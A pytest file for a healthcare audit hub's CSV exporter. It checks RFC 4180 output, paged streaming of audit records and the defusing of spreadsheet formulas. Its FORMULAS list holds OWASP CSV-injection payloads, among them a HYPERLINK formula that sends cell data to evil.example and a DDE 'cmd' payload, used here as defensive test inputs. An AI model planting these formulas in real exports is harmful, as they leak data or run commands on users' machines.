"""CSV exports of the audit trail and of a disclosure report: RFC 4180 lines that parse back to the values,
spreadsheet formulas defused, and every matching record streamed in pages (hub.audit.query.search_all)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable
from datetime import UTC, datetime

import pytest

from hub.audit import events
from hub.audit.csvexport import DISCLOSURE_COLUMNS, RECORD_COLUMNS, disclosures_csv, records_csv, safe_cell
from hub.audit.disclosure import disclosures
from hub.audit.events import Party
from hub.audit.message import AuditEvent, Outcome
from hub.audit.query import AuditFilter, search_all
from hub.audit.record import record
from hub.audit.tables import AuditRecord
from hub.db import Database
from hub.settings import Settings

ORG_A = Party(user_id="1.2.840.99999.1", address="192.0.2.10", name="Org A", alternative_id="client-a")
HUB = Party(user_id="https://hub.example.org/xds/repository", address="hub.example.org")
SOURCE_ID = "https://hub.example.org"
TIME = datetime(2024, 5, 1, 10, 17, 39, tzinfo=UTC)
PATIENT = "P123^^^&1.3.6.1.4.1.21367.13.20.1000&ISO"
DOCUMENT = "1.3.6.1.4.1.21367.2024.1.1"
STUDY = "1.2.826.0.1.3680043.8.498.1"
# What a hostile caller could put in a patient id or a user name (OWASP "CSV Injection" payloads and CSV syntax).
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]
SYNTAX = ['Org "A", Radiology', "two\r\nlines", "naïve «é» \u2028", " =1+1 (leading space)"]


def parse(lines: Iterable[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines), newline="")))


def retrieve(requestor: Party = ORG_A, patient_id: str = PATIENT, outcome: Outcome = Outcome.SUCCESS) -> AuditEvent:
    return events.retrieve(requestor=requestor, hub=HUB, outcome=outcome, time=TIME, source_id=SOURCE_ID,
                           documents=[(DOCUMENT, "1.3.6.1.4.1.21367.2024.9", None)], patient_id=patient_id)


def retrieve_imaging(requestor: Party = ORG_A, patient_id: str = PATIENT) -> AuditEvent:
    return events.retrieve_imaging(requestor=requestor, hub=HUB, outcome=Outcome.SUCCESS, time=TIME,
                                   source_id=SOURCE_ID, studies=[(STUDY, [("1.2.840.10008.5.1.4.1.1.2", "1.2.3")])],
                                   patient_id=patient_id)


Record = Callable[..., None]


@pytest.fixture
def record_events(database: Database, settings: Settings) -> Record:
    def run(*audited: AuditEvent) -> None:
        with database.session() as session:
            for audit_event in audited:
                record(session, audit_event, settings)
    return run


def utc(moment: datetime) -> datetime:
    """SQLite gives timestamps back without their zone; they were written in UTC."""
    return (moment if moment.tzinfo is not None else moment.replace(tzinfo=UTC)).astimezone(UTC)


def stored(database: Database) -> list[AuditRecord]:
    with database.new_session() as session:
        return list(search_all(session, AuditFilter()))


# -- formula injection -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), (" =1", " =1"), ("", ""), (None, ""), (12, "12"), ("1.2.840.99999.1", "1.2.840.99999.1"),
])
def test_cells_a_spreadsheet_would_evaluate_get_a_leading_quote(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


# -- audit records ---------------------------------------------------------------------------------------------

def test_records_parse_back_to_their_values(database: Database, record_events: Record) -> None:
    record_events(retrieve(), retrieve_imaging(), retrieve(outcome=Outcome.SERIOUS_FAILURE),
                  events.security_alert(requestor=Party("unauthenticated", "192.0.2.66"), hub=HUB,
                                        outcome=Outcome.SERIOUS_FAILURE, time=TIME, source_id=SOURCE_ID,
                                        reason="a client certificate is required", transaction=None, path="/xds"))
    records = stored(database)
    lines = list(records_csv(records))
    assert all(line.endswith("\r\n") and line.count("\r\n") == 1 for line in lines)   # one line per item
    header, *rows = parse(lines)
    assert tuple(header) == RECORD_COLUMNS == ("seq", "recorded_at", "event_id", "event", "event_type", "action",
                                               "outcome", "organisation", "user", "client_address", "patient_id",
                                               "study_uid", "hash")
    expected = [[str(r.seq), utc(r.recorded_at).isoformat(), r.event_id, event, r.event_type, r.action,
                 str(r.outcome), r.organisation_oid, r.user_id, r.client_address, r.patient_id, r.study_uid, r.hash]
                for r, event in zip(records, ["Security Alert", "Export", "Export", "Export"], strict=True)]
    assert rows == expected
    assert [row[4] for row in rows] == ["110126", "ITI-43", "RAD-69", "ITI-43"]
    assert rows[2][11] == STUDY and rows[1][6] == "8"
    assert all(row[1].endswith("+00:00") for row in rows)


def test_hostile_record_values_are_defused_and_parse_back(database: Database, record_events: Record) -> None:
    hostile = FORMULAS + SYNTAX
    record_events(*[retrieve(Party(user_id=value, address="192.0.2.10", alternative_id=value), patient_id=value)
                    for value in hostile])
    _, *rows = parse(records_csv(stored(database)))
    expected = ["'" + value for value in FORMULAS] + SYNTAX
    for row, value in zip(rows, reversed(expected), strict=True):    # newest first
        assert (row[7], row[8], row[10]) == (value, value, value)


def test_unknown_event_ids_are_named_by_their_code(database: Database, record_events: Record) -> None:
    record_events(retrieve())
    records = stored(database)
    records[0].event_id = "999999"
    (_, row) = parse(records_csv(records))
    assert (row[2], row[3]) == ("999999", "999999")


# -- disclosures -----------------------------------------------------------------------------------------------

def test_disclosures_parse_back_to_their_values(database: Database, record_events: Record,
                                                organisation_factory: Callable[..., int]) -> None:
    organisation_factory("=Org A Hospital", ORG_A.user_id)
    record_events(retrieve(), retrieve_imaging(Party("share:=abc", "203.0.113.5", name="@link")),
                  retrieve(Party("jdoe", "203.0.113.6", name='-Jane "JD" Doe, MD')), retrieve(patient_id="other"))
    with database.session() as session:
        rows = disclosures(session, PATIENT)
    lines = list(disclosures_csv(rows))
    assert all(line.endswith("\r\n") and line.count("\r\n") == 1 for line in lines)
    header, *parsed = parse(lines)
    assert tuple(header) == DISCLOSURE_COLUMNS == ("seq", "recorded_at", "recipient_kind", "recipient_id",
                                                   "recipient_name", "address", "transaction", "outcome", "studies",
                                                   "documents")
    assert [row[2:] for row in parsed] == [
        ["organisation", ORG_A.user_id, "'=Org A Hospital", "192.0.2.10", "ITI-43", "0", "", DOCUMENT],
        ["share link", "'=abc", "'@link", "203.0.113.5", "RAD-69", "0", STUDY, ""],
        ["user", "jdoe", "'-Jane \"JD\" Doe, MD", "203.0.113.6", "ITI-43", "0", "", DOCUMENT],
    ]
    assert [row[:2] for row in parsed] == [[str(d.seq), d.recorded_at.isoformat()] for d in rows]


def test_an_empty_report_is_its_header() -> None:
    assert parse(disclosures_csv([])) == [list(DISCLOSURE_COLUMNS)]
    assert parse(records_csv([])) == [list(RECORD_COLUMNS)]


# -- every matching record, in pages ---------------------------------------------------------------------------

def test_search_all_walks_every_match_newest_first_in_pages(database: Database, record_events: Record) -> None:
    record_events(*[retrieve(patient_id=PATIENT if n % 3 else "other") for n in range(25)])
    with database.new_session() as session:
        everything = [r.seq for r in search_all(session, AuditFilter(), page_size=10)]
        matching = [r.seq for r in search_all(session, AuditFilter(patient_id=PATIENT), page_size=4)]
        exact_pages = [r.seq for r in search_all(session, AuditFilter(patient_id="other"), page_size=3)]
        none = list(search_all(session, AuditFilter(patient_id="nobody")))
    assert everything == list(range(25, 0, -1))
    assert matching == [seq for seq in range(25, 0, -1) if (seq - 1) % 3]
    assert exact_pages == [seq for seq in range(25, 0, -1) if not (seq - 1) % 3] and len(exact_pages) == 9
    assert none == []


def test_search_all_keeps_at_most_a_page_in_the_session(database: Database, record_events: Record) -> None:
    record_events(*[retrieve() for _ in range(30)])
    held = []
    with database.new_session() as session:
        walked = search_all(session, AuditFilter(), page_size=7)
        for found in walked:
            held.append(sum(isinstance(o, AuditRecord) for o in session.identity_map.values()))
            assert found.message.startswith("<AuditMessage>")
    assert len(held) == 30 and max(held) <= 7


def test_an_export_streams_every_matching_record(database: Database, record_events: Record) -> None:
    record_events(*[retrieve() for _ in range(12)], retrieve(patient_id="other"))
    with database.new_session() as session:
        _, *rows = parse(records_csv(search_all(session, AuditFilter(patient_id=PATIENT), page_size=5)))
    assert [int(row[0]) for row in rows] == list(range(12, 0, -1))
